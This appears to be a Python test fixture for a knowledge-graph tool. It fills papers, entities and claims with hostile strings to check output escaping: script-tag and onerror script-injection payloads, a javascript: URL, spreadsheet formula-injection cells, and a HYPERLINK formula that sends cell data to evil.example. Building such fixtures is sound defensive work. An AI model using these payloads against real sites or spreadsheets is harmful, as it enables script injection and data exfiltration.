"""A small graph whose every text tries to break out of the format it is written in."""

from __future__ import annotations

from kg import ontology
from kg.keys import paper_path
from kg.records import Claim, Entity, Evidence, Knowledge, Paper, Span, Statement

SCRIPT = "</script><script>window.pwned = 1</script>"
IMAGE = "<img src=x onerror='window.pwned = 1'>"
TITLE = f'A "title" & {IMAGE} {SCRIPT} <!-- \u202edlrow\u202c \U0001f600 tab\tnul\x00 bell\x07 \ud800 \ufffe ]]> | pipe'
FORMULA = '=HYPERLINK("http://evil.example/"&A1)'
CELLS = ("+1", "-2", "@SUM(A1)", "\t=1", "a|b", "line\nbreak", "quote\"'`", "", "\u2028\u2029")


def hostile() -> Knowledge:
    """Two papers, some entities, one relation twice over and in both directions, one number."""
    known = ontology.load()
    bad, calm = Paper(TITLE, f"First. {IMAGE} beats {FORMULA} by far. Last.", url="javascript:alert(1)"), Paper("Calm", "Calm.")
    method, device, link = known.role("method"), known.role("device"), known.role("variant")
    first, second = (
        Entity("method/image", method, IMAGE, (SCRIPT, *CELLS)),
        Entity("method/formula", method, FORMULA, ("\x0b\x0c",)),
    )
    third = Entity("hardware/blank", device, "\u200f\u202e", ())
    start = bad.text.index(f"{IMAGE} beats")
    proof = Evidence(bad.key, Span(start, start + len(IMAGE) + 6), f"{IMAGE} beats", 0.5, "test")
    introduces = known.role("contribution")
    statements = [
        Statement(paper_path(bad.key), introduces, first.id, (proof,)),
        Statement(first.id, link, second.id, (proof,)),
        Statement(second.id, link, first.id, (proof,)),
        Statement(
            first.id,
            next(r.name for r in known.relations if r.name != link and known.allows(method, r.name, method)),
            second.id,
            (proof,),
        ),
    ]
    claim = Claim("result/1", first.id, SCRIPT, "", IMAGE, (), "x", "increase", second.id, (third.id,), proof)
    mentions = tuple(sorted((bad.key, entity.id) for entity in (first, second, third)))
    entities = tuple(sorted((first, second, third), key=lambda entity: entity.id))
    ordered = tuple(sorted(statements, key=lambda s: (s.subject, s.relation, s.object)))
    return Knowledge(tuple(sorted((bad, calm), key=lambda paper: paper.key)), entities, ordered, (claim,), mentions, "test")
